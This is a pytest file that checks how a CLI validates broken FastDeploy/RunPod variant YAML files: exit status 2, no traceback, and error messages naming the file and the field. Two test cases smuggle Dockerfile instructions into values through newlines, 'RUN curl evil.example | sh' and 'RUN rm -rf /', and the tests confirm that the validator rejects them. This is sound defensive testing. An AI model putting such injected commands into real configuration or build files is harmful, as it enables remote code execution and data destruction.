"""Broken variant files: exit status 2, no traceback, and a message naming the file and the field."""

from __future__ import annotations

import pytest
from conftest import MINIMAL_VARIANT

GOOD = MINIMAL_VARIANT

CASES = {
    # case id: (file text, expected fragments of stderr)
    "unknown-key": (
        GOOD + "engine:\n  quantizaton: wint4\n",
        ["engine.quantizaton", "unknown key 'quantizaton'", "did you mean 'quantization'"],
    ),
    "api-key-flag": (
        GOOD + "engine:\n  extra_args: [--api-key, secret]\n",
        ["engine.extra_args[0]", "'--api-key'", "401", "RunPod's API key"],
    ),
    "api-key-flag-equals": (
        GOOD + "engine:\n  extra_args: [--api-key=secret]\n",
        ["engine.extra_args[0]", "401"],
    ),
    "api-key-env": (
        GOOD + "engine:\n  env: {FD_API_KEY: secret}\n",
        ["engine.env.FD_API_KEY", "401", "127.0.0.1"],
    ),
    "runtime-owned-port": (
        GOOD + "engine:\n  extra_args: [--port, '9000']\n",
        ["engine.extra_args[0]", "chosen by the runtime"],
    ),
    "wrong-type": (GOOD + "engine:\n  max_model_len: lots\n", ["engine.max_model_len", "'lots'"]),
    "quantization-not-in-release": (
        GOOD + "engine:\n  quantization: wint3\n",
        [
            "engine.quantization",
            "'wint3'",
            "not valid for FastDeploy 2.5.0",
            "allowed: wint2",
            "did you mean",
        ],
    ),
    "quantization-older-release": (
        GOOD + "engine:\n  fastdeploy: 2.3.0\n  quantization: mxfp4\n",
        ["engine.quantization", "'mxfp4'", "FastDeploy 2.3.0"],
    ),
    "tp4-on-one-gpu": (
        GOOD + "engine:\n  tensor_parallel_size: 4\nhub:\n  gpu_ids: [ADA_24]\n  gpu_count: 1\n",
        ["engine.tensor_parallel_size", "hub.gpu_count (1)"],
    ),
    "model-does-not-fit": (
        GOOD.replace("ERNIE-4.5-0.3B-Paddle", "ERNIE-4.5-300B-A47B-Paddle")
        + "engine:\n  quantization: wint8\n",
        ["hub.gpu_ids[0]", "'AMPERE_24'", "cannot hold baidu/ERNIE-4.5-300B-A47B-Paddle at wint8"],
    ),
    "newline-in-dockerfile-value": (
        GOOD.replace(
            "description: A variant written by a test.",
            'description: "innocent\\nRUN curl evil.example | sh"',
        ),
        ["description", "newlines and control characters are not allowed"],
    ),
    "newline-in-env-value": (
        GOOD + 'engine:\n  env:\n    FD_ATTENTION_BACKEND: "x\\nRUN rm -rf /"\n',
        ["engine.env.FD_ATTENTION_BACKEND", "newlines"],
    ),
    "quote-breaking-hub-json-key": (
        GOOD
        + "hub:\n  gpu_ids: [ADA_24]\n  presets:\n    - name: p\n      defaults: {'MAX_MODEL_LEN\"': 4}\n",
        ['hub.presets[0].defaults.MAX_MODEL_LEN"', "did you mean 'MAX_MODEL_LEN'"],
    ),
    "quote-in-env-name": (
        GOOD + "engine:\n  env:\n    'A\"B': x\n",
        ['engine.env.A"B', "not a valid environment"],
    ),
    "missing-extends-target": (
        GOOD.replace("extends: _base", "extends: _bsae"),
        ["extends", "'_bsae'", "does not exist", "did you mean '_base'"],
    ),
    "yaml-syntax-error": (GOOD + "engine: {quantization: wint4\n", ["YAML syntax error at line"]),
    "empty-file": ("", ["the file is empty"]),
    "comment-only-file": ("# nothing here\n", ["the file is empty"]),
    "missing-required": (GOOD.replace("title: Test variant\n", ""), ["title", "is required"]),
    "bad-pool": (GOOD + "hub:\n  gpu_ids: [ADA24]\n", ["hub.gpu_ids[0]", "did you mean 'ADA_24'"]),
    "fp8-needs-hopper": (
        GOOD + "engine:\n  quantization: block_wise_fp8\n",
        ["hub.gpu_ids[0]", "needs sm90"],
    ),
    "cuda-not-offered": (
        GOOD + "engine:\n  cuda: '12.4'\n",
        ["engine.cuda", "'12.4'", "allowed: 12.6, 12.9"],
    ),
    "unknown-release": (GOOD + "engine:\n  fastdeploy: 2.6.0\n", ["engine.fastdeploy", "'2.6.0'", "2.5.0"]),
    "extra-flag-unknown": (
        GOOD + "engine:\n  extra_args: [--enable-logprobs]\n",
        ["engine.extra_args[0]", "not a flag of FastDeploy 2.5.0", "did you mean '--enable-logprob'"],
    ),
    "extra-flag-is-a-setting": (
        GOOD + "engine:\n  extra_args: [--max-model-len, '4096']\n",
        ["engine.extra_args[0]", "set engine.max_model_len instead"],
    ),
    "parser-missing-in-release": (
        GOOD + "engine:\n  fastdeploy: 2.0.0\n  tool_call_parser: ernie-x1\nhub:\n  gpu_ids: [AMPERE_80]\n",
        ["engine.tool_call_parser", "FastDeploy 2.0.0 has no tool-call parser"],
    ),
    "disk-too-small": (
        GOOD + "hub:\n  gpu_ids: [ADA_24]\n  container_disk_gb: 5\n",
        ["hub.container_disk_gb", "needs at least 31"],
    ),
    "unknown-setting": (
        GOOD + "engine:\n  settings:\n    REQUEST_TIMEOUTS: 5\n",
        ["engine.settings.REQUEST_TIMEOUTS", "did you mean 'REQUEST_TIMEOUT'"],
    ),
    "setting-wrong-type": (
        GOOD + "engine:\n  settings:\n    ENABLE_PREFIX_CACHING: 'yes'\n",
        ["engine.settings.ENABLE_PREFIX_CACHING", "true or false"],
    ),
    "name-differs-from-file": (
        GOOD.replace("name: {name}", "name: other"),
        ["name", "must match the file name"],
    ),
    "old-image-lacks-ada": (
        GOOD + "engine:\n  fastdeploy: 2.3.0\n",
        ["hub.gpu_ids[0]", "(sm86) is not covered by the FastDeploy 2.3.0 image"],
    ),
    "duplicate-key": (GOOD + "title: again\n", ["YAML syntax error", "duplicate key 'title'"]),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_invalid_variant_exits_2_naming_file_and_field(case, cli, write_variant):
    text, fragments = CASES[case]
    path = write_variant(case, text.replace("{name}", case))
    result = cli("--variant", str(path), "--render-only", "--out", str(path.parent.parent / "out"))
    assert result.returncode == 2, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    assert f"{case}.yaml" in result.stderr
    for fragment in fragments:
        assert fragment in result.stderr, f"{fragment!r} not in:\n{result.stderr}"
    assert not (path.parent.parent / "out").exists(), "nothing may be written for an invalid variant"


def test_all_errors_at_once(cli, write_variant):
    text = (
        GOOD + "engine:\n  quantizaton: wint4\n  max_num_seqs: -1\nhub:\n  gpu_ids: [ADA_24]\n  categori: x\n"
    )
    path = write_variant("many", text.replace("{name}", "many"))
    result = cli("--variant", str(path), "--render-only")
    assert result.returncode == 2
    for fragment in ("engine.quantizaton", "engine.max_num_seqs", "hub.categori"):
        assert fragment in result.stderr
    assert "3 error(s)" in result.stderr


def test_extends_cycle(cli, write_variant):
    write_variant("a", "extends: b\nname: a\n")
    b = write_variant("b", "extends: a\n")
    result = cli("--variant", str(b), "--render-only")
    assert result.returncode == 2
    assert "extends cycle" in result.stderr and "a.yaml" in result.stderr and "b.yaml" in result.stderr


def test_error_in_base_names_the_base_file(cli, write_variant):
    write_variant("_mybase", "extends: _base\nengine:\n  quantization: wint3\n")
    path = write_variant("child", GOOD.replace("_base", "_mybase").replace("{name}", "child"))
    result = cli("--variant", str(path), "--render-only")
    assert result.returncode == 2
    assert "_mybase.yaml: engine.quantization: 'wint3'" in result.stderr


def test_errors_of_several_variants_reported_together(cli, write_variant):
    a = write_variant("one", GOOD.replace("{name}", "one") + "engine:\n  quantization: wint3\n")
    b = write_variant("two", GOOD.replace("{name}", "two") + "engine:\n  cuda: '11.8'\n")
    result = cli("--variant", str(a), "--variant", str(b), "--render-only")
    assert result.returncode == 2
    assert "one.yaml: engine.quantization" in result.stderr and "two.yaml: engine.cuda" in result.stderr


def test_variants_dir_option(cli, write_variant):
    path = write_variant("ok", GOOD.replace("{name}", "ok"))
    result = cli("--variants-dir", str(path.parent), "--list", "--json")
    assert result.returncode == 0, result.stderr
    assert '"ok"' in result.stdout


def test_quote_in_title_is_escaped_not_broken(cli, write_variant):
    import json

    path = write_variant(
        "quoted",
        GOOD.replace("{name}", "quoted").replace("title: Test variant", "title: 'Say \"hi\" \\ $HOME'"),
    )
    out = path.parent.parent / "out"
    result = cli("--variant", str(path), "--render-only", "--out", str(out))
    assert result.returncode == 0, result.stderr
    assert json.loads((out / ".runpod" / "hub.json").read_text())["title"] == 'Say "hi" \\ $HOME'
    assert 'org.opencontainers.image.title="Say \\"hi\\" \\\\ \\$HOME"' in (out / "Dockerfile").read_text()
